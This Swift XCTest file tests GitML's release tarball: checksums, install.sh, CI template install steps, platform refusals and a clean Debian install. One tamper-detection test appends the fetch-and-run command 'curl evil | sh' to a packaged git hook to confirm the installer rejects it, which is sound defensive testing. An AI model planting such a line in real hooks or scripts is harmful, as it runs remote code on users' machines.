import Foundation
import XCTest
import Yams

/// The release tarball (`make dist`, scripts/dist.sh) and its install.sh. The default test packs
/// the binaries this test run built; with GITML_SLOW_TESTS=1 the real release (static Swift
/// runtime, two x86-64 builds) is built, or taken from GITML_DIST_TARBALL, and installed into a
/// clean Debian root without Swift where the demo story runs.
final class DistTests: CLITestCase {
    /// The repository's root (this file is Tests/GitMLCLITests/DistTests.swift).
    static let sourceRoot = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .deletingLastPathComponent().path

    /// `PATH` with the toolchain's folders and the test build's left out.
    static let plainPath = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"

    private var work: String { repo + "/.dist-work" }

    /// Runs a command with exactly `environment` (no LD_LIBRARY_PATH, no Swift on PATH).
    @discardableResult
    private func runClean(_ args: [String], environment: [String: String], in directory: String? = nil, expect: Int32? = 0,
                          file: StaticString = #filePath, line: UInt = #line) throws -> Result {
        try run(["env", "-i"] + environment.map { "\($0.key)=\($0.value)" }.sorted() + args, in: directory, expect: expect, file: file, line: line)
    }

    /// Builds the tarball from this test run's binaries and unpacks it; returns its folder.
    private func packedRelease() throws -> (tarball: String, folder: String) {
        let out = work + "/out"
        let built = try run(DistTests.sourceRoot + "/scripts/dist.sh", "--bin-dir", CLITestCase.binaries, "--out", out)
        let tarball = try XCTUnwrap(built.stdout.split(separator: "\n").last.map(String.init))
        try run("tar", "-xzf", tarball, "-C", work)
        let name = ((tarball as NSString).lastPathComponent as NSString).deletingPathExtension.replacingOccurrences(of: ".tar", with: "")
        return (tarball, work + "/" + name)
    }

    func testTarballHoldsTheReleaseWithChecksums() throws {
        let (tarball, folder) = try packedRelease()
        let version = try run("git-ml", "--version").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        let arch = try run("uname", "-m").stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        XCTAssertEqual((tarball as NSString).lastPathComponent, "gitml-\(version)-linux-\(arch).tar.gz")
        let published = try String(contentsOfFile: tarball + ".sha256", encoding: .utf8)
        XCTAssertEqual(published.split(separator: " ").first.map(String.init),
                       try run("sha256sum", tarball).stdout.split(separator: " ").first.map(String.init))
        for file in ["install.sh", "SHA256SUMS", "LIBRARIES", "builds/\(arch)/git-ml", "builds/\(arch)/git-mlcommit",
                     "share/man/man1/git-ml.1", "share/man/man1/git-ml-data-add.1", "share/man/man1/git-mlcommit.1",
                     "share/bash-completion/completions/git-ml", "share/bash-completion/completions/git-mlcommit",
                     "share/zsh/site-functions/_git-ml", "share/fish/vendor_completions.d/git-ml.fish",
                     "share/gitml/hooks/pre-push", "share/gitml/templates/ci/github-actions.yml", "share/gitml/templates/ml/gate.yaml"] {
            XCTAssertTrue(FileManager.default.fileExists(atPath: folder + "/" + file), "\(file) missing")
        }
        // One binary per build: git-mlcommit is a relative link to git-ml, checked like any file.
        let build = folder + "/builds/" + arch
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: build).sorted(), ["git-ml", "git-mlcommit"])
        XCTAssertEqual(try FileManager.default.destinationOfSymbolicLink(atPath: build + "/git-mlcommit"), "git-ml")
        XCTAssertEqual(try run("find", "builds", "-type", "f", in: folder).stdout, "builds/\(arch)/git-ml\n")
        let sums = try String(contentsOfFile: folder + "/SHA256SUMS", encoding: .utf8)
        XCTAssertTrue(sums.contains("  builds/\(arch)/git-mlcommit\n"), sums)
        let files = try run("find", ".", "(", "-type", "f", "-o", "-type", "l", ")", "!", "-name", "SHA256SUMS", in: folder)
            .stdout.split(separator: "\n").count
        XCTAssertEqual(sums.split(separator: "\n").count, files, "every file and link has a checksum")
        try run("sha256sum", "--quiet", "-c", "SHA256SUMS", in: folder)
        let libraries = try String(contentsOfFile: folder + "/LIBRARIES", encoding: .utf8)
        XCTAssertTrue(libraries.contains("libc.so.6"), libraries)
        // The pages name every command; the roff is well formed enough for man to render it.
        let page = try String(contentsOfFile: folder + "/share/man/man1/git-ml.1", encoding: .utf8)
        XCTAssertTrue(page.hasPrefix(".TH \"GIT-ML\" 1"), page)
        XCTAssertTrue(page.contains("\\fBdoctor\\fR"), page)
    }

    func testInstallIntoAPrefixRunsWithoutSwiftAndActsAsAGitSubcommand() throws {
        let (_, folder) = try packedRelease()
        let prefix = work + "/prefix"
        let installed = try run(folder + "/install.sh", "--prefix=" + prefix)
        XCTAssertTrue(installed.stdout.contains("installed GitML"), installed.stdout)
        XCTAssertTrue(installed.stdout.contains("add \(prefix)/bin to PATH"), installed.stdout)
        let environment = installedEnvironment(prefix)
        let version = try runClean(["git", "ml", "version"], environment: environment)
        XCTAssertTrue(version.stdout.hasPrefix("git-ml "), version.stdout)
        XCTAssertEqual(try runClean(["sh", "-c", "command -v git-ml"], environment: environment).stdout, prefix + "/bin/git-ml\n")
        // git-mlcommit is a link to the one binary, which is `git mlcommit` under that name.
        XCTAssertEqual(try FileManager.default.destinationOfSymbolicLink(atPath: prefix + "/bin/git-mlcommit"), "git-ml")
        let commitHelp = try runClean(["git-mlcommit", "--help"], environment: environment).stdout
        XCTAssertTrue(commitHelp.contains("USAGE: git-mlcommit"), commitHelp)
        XCTAssertEqual(try runClean(["git", "mlcommit", "--version"], environment: environment).stdout,
                       try runClean(["git-ml", "--version"], environment: environment).stdout)
        // man finds the pages through PATH (prefix/bin → prefix/share/man), as git help does.
        let manPath = try runClean(["man", "-w", "git-ml"], environment: environment).stdout
        XCTAssertEqual(manPath, prefix + "/share/man/man1/git-ml.1\n")
        let help = try runClean(["git", "ml", "--help"], environment: environment)
        XCTAssertTrue(help.stdout.contains("COMMANDS") && help.stdout.contains("git-ml-data"), help.stdout)
        XCTAssertEqual(try runClean(["git", "help", "ml"], environment: environment).stdout, help.stdout)
        let addHelp = try runClean(["man", "git-ml-data-add"], environment: environment).stdout
        XCTAssertTrue(addHelp.contains("--name"), addHelp)
        XCTAssertTrue(try runClean(["man", "git-mlcommit"], environment: environment).stdout.contains("git-mlcommit"))
        try commitADatasetWithTheInstalled(prefix, environment: environment)
        // bash completion of `git ml <TAB>`, including dataset names from the repository.
        let completion = """
            source \(prefix)/share/bash-completion/completions/git-ml
            complete_line() { COMP_LINE=$1; COMP_POINT=${#1}; read -ra COMP_WORDS <<< "$1"; [[ $1 == *' ' ]] && COMP_WORDS+=(''); \
            COMP_CWORD=$((${#COMP_WORDS[@]} - 1)); COMPREPLY=(); _git_ml; printf '%s\\n' "${COMPREPLY[@]}"; }
            complete_line 'git ml data sh'; echo --; complete_line 'git ml data show ch'
            """
        let words = try runClean(["bash", "-c", completion], environment: environment).stdout
        XCTAssertEqual(words, "show\n--\nchurn\nchurn@v1\n")
    }

    /// `make install` from source installs one binary as the tarball does: git-mlcommit is a link to
    /// git-ml (replacing the separate binary an older install left), and `git mlcommit` works
    /// through it. `-o release` installs this test run's build instead of building the release.
    func testMakeInstallPutsOneBinaryAndALinkForGitMLCommit() throws {
        let prefix = work + "/source-prefix"
        try FileManager.default.createDirectory(atPath: prefix + "/bin", withIntermediateDirectories: true)
        try run("cp", CLITestCase.binaries + "/git-ml", prefix + "/bin/git-mlcommit")   // what an older `make install` left
        try run("make", "-s", "-C", DistTests.sourceRoot, "-o", "release", "install", "PREFIX=" + prefix, "BIN_DIR=" + CLITestCase.binaries)
        XCTAssertEqual(try FileManager.default.contentsOfDirectory(atPath: prefix + "/bin").sorted(), ["git-ml", "git-mlcommit"])
        XCTAssertEqual(try FileManager.default.destinationOfSymbolicLink(atPath: prefix + "/bin/git-mlcommit"), "git-ml")
        XCTAssertEqual(try run("find", prefix + "/bin", "-type", "f").stdout, prefix + "/bin/git-ml\n")
        let environment = installedEnvironment(prefix)
        let commitHelp = try runClean(["git-mlcommit", "--help"], environment: environment).stdout
        XCTAssertTrue(commitHelp.contains("USAGE: git-mlcommit"), commitHelp)
        try commitADatasetWithTheInstalled(prefix, environment: environment)
    }

    /// The environment of a user with only the installation in `prefix` on PATH (no Swift).
    private func installedEnvironment(_ prefix: String) -> [String: String] {
        ["PATH": prefix + "/bin:" + DistTests.plainPath, "HOME": work, "MANPAGER": "cat", "PAGER": "cat",
         "GIT_AUTHOR_NAME": "T", "GIT_AUTHOR_EMAIL": "t@example.com", "GIT_COMMITTER_NAME": "T", "GIT_COMMITTER_EMAIL": "t@example.com"]
    }

    /// A demo-sized story with the binaries installed in `prefix` only: a dataset added and
    /// committed with `git mlcommit` (the link), fsck, and doctor taking the link on PATH for this
    /// installation's git-mlcommit.
    private func commitADatasetWithTheInstalled(_ prefix: String, environment: [String: String]) throws {
        try runClean(["git", "ml", "init"], environment: environment)
        try writeCSV("d.csv", rows: 500)
        try runClean(["git", "ml", "data", "add", "d.csv", "--name", "churn", "--no-checks"], environment: environment)
        try runClean(["git", "mlcommit", "-m", "Add churn"], environment: environment)
        XCTAssertEqual(try runClean(["git", "log", "-1", "--format=%s"], environment: environment).stdout, "Add churn\n")
        try runClean(["git", "ml", "fsck"], environment: environment)
        let doctor = try runClean(["git", "ml", "doctor"], environment: environment, expect: nil).stdout
        XCTAssertTrue(doctor.contains("ok       git-mlcommit: \(prefix)/bin/git-mlcommit\n"), doctor)
    }

    func testATamperedReleaseIsRefusedAndInstallsNothing() throws {
        let (_, folder) = try packedRelease()
        let handle = try XCTUnwrap(FileHandle(forWritingAtPath: folder + "/share/gitml/hooks/pre-push"))
        handle.seekToEndOfFile()
        handle.write(Data("curl evil | sh\n".utf8))
        handle.closeFile()
        let refused = try run(folder + "/install.sh", "--prefix", work + "/prefix", expect: 1)
        XCTAssertTrue(refused.stderr.contains("files differ from SHA256SUMS: download the release again"), refused.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: work + "/prefix"))
    }

    /// Releases are built and tested for x86-64 only: install.sh on another machine refuses and
    /// installs nothing. (No aarch64 machine or Swift runtime is at hand: a `uname` first on PATH
    /// answers `-m` with aarch64, as that machine's would.)
    func testInstallRefusesAMachineThatIsNotX86_64() throws {
        let (_, folder) = try packedRelease()
        let machine = work + "/aarch64-bin"
        try FileManager.default.createDirectory(atPath: machine, withIntermediateDirectories: true)
        try "#!/bin/sh\nif [ \"$1\" = -m ]; then echo aarch64; else exec /bin/uname \"$@\"; fi\n"
            .write(toFile: machine + "/uname", atomically: true, encoding: .utf8)
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: machine + "/uname")
        let prefix = work + "/prefix"
        let refused = try runClean([folder + "/install.sh", "--prefix", prefix], environment: ["PATH": machine + ":" + DistTests.plainPath, "HOME": work],
                                   expect: 1)
        XCTAssertEqual(refused.stderr, "install.sh: GitML is not yet supported on aarch64: releases are built and tested for x86-64 Linux only "
                       + "(docs/INSTALL.md, \"Platforms\"); nothing was installed\n")
        XCTAssertFalse(FileManager.default.fileExists(atPath: prefix))
    }

    /// An x86-64-v3 build on a CPU without AVX2 stops with what to install, not SIGILL.
    func testAnX86_64_v3BuildOnAnOlderCPUSaysWhatToInstall() throws {
        let version = try run("git", "ml", "version").stdout
        guard version.contains("build: x86-64-v3") else { throw XCTSkip("a baseline build runs on any x86-64 CPU") }
        let binary = CLITestCase.binaries + "/git-ml"
        let pretend = try run("env", "GITML_PRETEND_CPU=baseline", binary, "--version", expect: 3)
        XCTAssertEqual(pretend.stderr, "git-ml: this build needs AVX2 and FMA (x86-64-v3); install the baseline build\n")
        XCTAssertEqual(pretend.stdout, "")
        // A real pre-AVX CPU, emulated: the same message, no SIGILL.
        guard FileManager.default.isExecutableFile(atPath: "/usr/bin/qemu-x86_64") else {
            throw XCTSkip("qemu-x86_64 (apt: qemu-user) is not installed: only the override was tested")
        }
        let emulated = try run("qemu-x86_64", "-cpu", "Nehalem", binary, "--version", expect: 3)
        XCTAssertEqual(emulated.stderr, "git-ml: this build needs AVX2 and FMA (x86-64-v3); install the baseline build\n")
    }

    /// The GitHub template's install step, run as Actions runs it: the pinned tarball from its URL,
    /// its checksum verified, installed without root; a wrong checksum stops the job; a cached
    /// tarball is used without downloading.
    func testGitHubTemplateInstallsThePinnedReleaseAndVerifiesItsChecksum() throws {
        let (tarball, _) = try packedRelease()
        let text = try String(contentsOfFile: DistTests.sourceRoot + "/templates/ci/github-actions.yml", encoding: .utf8)
        let steps = try XCTUnwrap(try Yams.compose(yaml: text)?["jobs"]?["gitml-gate"]?["steps"]?.sequence)
        let script = try XCTUnwrap(steps.first { $0["name"]?.string == "Install GitML" }?["run"]?.string)
        let home = work + "/runner-home"
        try FileManager.default.createDirectory(atPath: work + "/runner-temp", withIntermediateDirectories: true)
        try checkInstallStep("GitHub", tarball: tarball, installs: home + "/.local/bin/git-ml", errorPrefix: "::error::") { url, sha256, expect in
            try runClean(["bash", "-e", "-c", script], environment: [
                "PATH": DistTests.plainPath, "HOME": home, "RUNNER_TEMP": work + "/runner-temp", "GITHUB_PATH": work + "/github-path",
                "GITML_RELEASE_URL": url, "GITML_RELEASE_SHA256": sha256, "GITML_SOURCE": "", "GITML_REF": ""], expect: expect)
        }
        // Each installing step (the download, then the cached tarball) puts the folder on the job's PATH.
        XCTAssertEqual(try String(contentsOfFile: work + "/github-path", encoding: .utf8), String(repeating: home + "/.local/bin\n", count: 2))
    }

    /// The GitLab template's install lines (the `.gitml-install` anchor the gate job's script starts
    /// with, after its apt-get line), run as the job in `debian:bookworm` runs them: as root, into
    /// `/usr/local`, unpacking in `/tmp/gitml`, the tarball cached under `$CI_PROJECT_DIR`. A private
    /// mount namespace gives the job a `/usr/local` and a `/tmp` of its own (folders of this test).
    func testGitLabTemplateInstallsThePinnedReleaseAndVerifiesItsChecksum() throws {
        guard getuid() == 0 else { throw XCTSkip("the job runs as root in its image: the mount namespace needs root") }
        let (tarball, _) = try packedRelease()
        let text = try String(contentsOfFile: DistTests.sourceRoot + "/templates/ci/gitlab-ci.yml", encoding: .utf8)
        let gate = try XCTUnwrap(try Yams.compose(yaml: text)?["gitml-gate"]?["script"]?.sequence?.first?.sequence)
        let lines = gate.compactMap(\.string)
        let packages = try XCTUnwrap(lines.first)
        XCTAssertTrue(packages.hasPrefix("apt-get update"), "the job installs the runtime packages first: \(packages)")
        for package in DistTests.debianPackages where !["man-db", "python3"].contains(package) {
            XCTAssertTrue(packages.contains(" \(package) "), "the job's image lacks \(package) (docs/INSTALL.md): \(packages)")
        }
        let script = lines.dropFirst().joined(separator: "\n")
        XCTAssertTrue(script.contains("install.sh --prefix /usr/local"), script)
        let usrLocal = work + "/usr-local", jobTmp = work + "/job-tmp"
        for folder in [usrLocal, jobTmp + "/project", jobTmp + "/release"] {
            try FileManager.default.createDirectory(atPath: folder, withIntermediateDirectories: true)
        }
        // The tarball where the job's namespace sees it: /tmp/release/ there.
        try run("cp", tarball, jobTmp + "/release/")
        let jobTarball = "/tmp/release/" + (tarball as NSString).lastPathComponent
        let job = """
            mount --bind "$1" /usr/local && mount --bind "$2" /tmp && cd /tmp/project && exec bash -eo pipefail -c "$3"
            """
        try checkInstallStep("GitLab", tarball: tarball, installs: usrLocal + "/bin/git-ml", errorPrefix: "") { url, sha256, expect in
            try runClean(["unshare", "--mount", "--propagation", "private", "bash", "-c", job, "job", usrLocal, jobTmp, script], environment: [
                "PATH": DistTests.plainPath, "HOME": "/root", "CI_PROJECT_DIR": "/tmp/project",
                "GITML_RELEASE_URL": url.replacingOccurrences(of: "file://" + tarball, with: "file://" + jobTarball),
                "GITML_RELEASE_SHA256": sha256, "GITML_SOURCE": "", "GITML_REF": ""], expect: expect)
        }
        XCTAssertTrue(FileManager.default.fileExists(atPath: jobTmp + "/project/.cache/gitml/gitml.tar.gz"), "the job cache keeps the tarball")
        XCTAssertTrue(FileManager.default.fileExists(atPath: usrLocal + "/share/man/man1/git-ml.1"))
    }

    /// What both templates' install steps do: `step(url, sha256, expected status)` runs one. A wrong
    /// checksum stops the job and installs nothing, the pinned tarball installs (timed), a cached
    /// tarball is used when the URL no longer answers, and unset variables say what to set.
    private func checkInstallStep(_ name: String, tarball: String, installs binary: String, errorPrefix: String,
                                  _ step: (_ url: String, _ sha256: String, _ expect: Int32) throws -> Result) throws {
        let sha = String(try run("sha256sum", tarball).stdout.prefix(64))
        let wrong = try step("file://" + tarball, String(repeating: "0", count: 64), 2)
        XCTAssertTrue(wrong.stdout.contains(errorPrefix + "the GitML tarball does not match GITML_RELEASE_SHA256"), wrong.stdout)
        XCTAssertFalse(FileManager.default.fileExists(atPath: binary))
        let started = Date()
        _ = try step("file://" + tarball, sha, 0)
        print("\(name) template install step (file:// URL, under load): \(String(format: "%.2f", Date().timeIntervalSince(started))) s")
        XCTAssertEqual(try run(binary, "--version").stdout, try run("git-ml", "--version").stdout)
        // The cached tarball is used: the URL no longer answers.
        _ = try step("file:///nonexistent/gitml.tar.gz", sha, 0)
        let unset = try step("", "", 2)
        XCTAssertTrue(unset.stdout.hasPrefix(errorPrefix + "set the "), unset.stdout)
        XCTAssertTrue(unset.stdout.contains("GITML_RELEASE_URL and GITML_RELEASE_SHA256"), unset.stdout)
    }

    /// The Debian packages a clean root needs besides minbase: GitML's runtime (docs/INSTALL.md),
    /// man-db for `git ml --help`, and python3 for the demo script's JSON parsing.
    static let debianPackages = ["git", "libgit2-1.5", "libcurl4", "libsnappy1v5", "libisal2", "openssh-client", "ca-certificates", "man-db", "python3"]

    /// The real release in a clean Debian 12 root without Swift: the binaries load no Swift
    /// library, install.sh installs them, every library they load is in the root, `git ml --help`,
    /// `git help ml` and `man` show the manual, and the demo story (data add, status, log, diff,
    /// checkout, fsck, runs, gate) runs. The baseline build runs on a pre-AVX CPU (qemu-x86_64
    /// emulating Nehalem, when installed). GITML_DIST_TARBALL reuses a built tarball;
    /// GITML_DEBIAN_ROOT copies a root made by
    /// `debootstrap --variant=minbase --include=<debianPackages> bookworm DIR` instead of bootstrapping.
    func testReleaseInstallsInACleanDebianRootAndRunsTheDemo() throws {
        let environment = ProcessInfo.processInfo.environment
        guard environment["GITML_SLOW_TESTS"] == "1" else {
            throw XCTSkip("GITML_SLOW_TESTS=1: builds the release and a Debian root (minutes)")
        }
        guard getuid() == 0 else { throw XCTSkip("chroot needs root") }
        var clock = Date()
        func lap(_ what: String) {
            print("clean Debian root, \(what) (under load): \(String(format: "%.1f", Date().timeIntervalSince(clock))) s")
            clock = Date()
        }
        try FileManager.default.createDirectory(atPath: work, withIntermediateDirectories: true)
        let tarball = try environment["GITML_DIST_TARBALL"] ?? XCTUnwrap(
            try run(DistTests.sourceRoot + "/scripts/dist.sh", "--out", work + "/out").stdout.split(separator: "\n").last.map(String.init))
        try run("tar", "-xzf", tarball, "-C", work)
        let folder = try XCTUnwrap(try FileManager.default.contentsOfDirectory(atPath: work).first { $0.hasPrefix("gitml-") })
        let builds = work + "/" + folder + "/builds/"
        for build in try FileManager.default.contentsOfDirectory(atPath: builds) {
            for tool in ["git-ml", "git-mlcommit"] {
                let libraries = try run("ldd", builds + build + "/" + tool).stdout
                XCTAssertFalse(libraries.contains("swift") || libraries.contains("Foundation") || libraries.contains("libdispatch"),
                               "\(build)/\(tool) loads \(libraries)")
            }
            // Position-dependent (scripts/build-release.sh): the loader applies the libraries'
            // relative relocations, not the ~100,000 of the static runtime it had at every start.
            let statistics = try run("env", "LD_DEBUG=statistics", builds + build + "/git-ml", "--version").stderr
            let relative = statistics.split(separator: "\n").first { $0.contains("number of relative relocations") }
                .flatMap { $0.split(separator: " ").last }.flatMap { Int($0) }
            XCTAssertLessThan(try XCTUnwrap(relative, statistics), 10_000, "\(build)/git-ml is position-independent")
        }
        if FileManager.default.isExecutableFile(atPath: "/usr/bin/qemu-x86_64"), FileManager.default.fileExists(atPath: builds + "baseline") {
            let old = try run("qemu-x86_64", "-cpu", "Nehalem", builds + "baseline/git-ml", "version")
            XCTAssertTrue(old.stdout.contains("build: baseline"), old.stdout)
        }
        lap("release ready")
        let root = work + "/root"
        if let cached = environment["GITML_DEBIAN_ROOT"] {
            try run("cp", "-a", cached, root)
        } else {
            try run("debootstrap", "--variant=minbase", "--include=" + DistTests.debianPackages.joined(separator: ","),
                    "bookworm", root, "http://deb.debian.org/debian")
        }
        XCTAssertFalse(FileManager.default.fileExists(atPath: root + "/opt/swift"))
        try run("cp", "-R", tarball, DistTests.sourceRoot + "/scripts/demo.sh", DistTests.sourceRoot + "/scripts/fixtures", root + "/tmp/")
        lap("root ready")
        /// Runs `script` in the root, with /proc mounted in a mount namespace of its own.
        func inRoot(_ script: String) throws -> Result {
            let enter = #"mount -t proc proc "$1/proc" && exec chroot "$1" /usr/bin/env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=/root MANPAGER=cat TERM=dumb /bin/bash -eo pipefail -c "$2""#
            return try run(["unshare", "--mount", "--propagation", "private", "sh", "-c", enter, "enter", root, script])
        }
        let installed = try inRoot("cd /tmp && tar -xzf gitml-*.tar.gz && ./gitml-*/install.sh")
        XCTAssertTrue(installed.stdout.contains("installed GitML"), installed.stdout)
        lap("install.sh")
        let manual = try inRoot("""
            ! command -v swift
            ! ldd /usr/local/bin/git-ml /usr/local/bin/git-mlcommit | grep 'not found'
            git ml --help | grep 'git-ml-data' >/dev/null
            git help ml | grep 'git-ml-data' >/dev/null
            man git-ml-data-add | grep -e '--name' >/dev/null
            readlink -f "$(man -w git-mlcommit)"
            git ml doctor
            # libcurl is opened on the first HTTP request: without it a push says what to install.
            mkdir /tmp/s3-push && cd /tmp/s3-push && git init -q && git ml init >/dev/null
            git ml remote add s3 s3://bucket/ml --endpoint http://127.0.0.1:9 --path-style --default >/dev/null
            export AWS_ACCESS_KEY_ID=AKIDEXAMPLE AWS_SECRET_ACCESS_KEY=secret
            status=0; GITML_CURL_LIBRARY=libcurl-missing.so.4 git ml push 2> missing.txt || status=$?
            test $status = 3
            grep -q 'need libcurl, which could not be loaded (libcurl-missing.so.4' missing.txt
            status=0; git ml push 2> loaded.txt || status=$?   # libcurl loaded: the request fails to connect
            test $status = 3
            grep -q 'Failed to connect to 127.0.0.1 port 9' loaded.txt
            """)
        XCTAssertEqual(manual.stdout.split(separator: "\n").first, "/usr/local/share/man/man1/git-mlcommit.1", manual.stdout)
        lap("manual and doctor")
        let demo = try inRoot("bash /tmp/demo.sh")
        XCTAssertTrue(demo.stdout.contains("git ml data checkout"), demo.stdout)
        lap("demo story")
    }
}
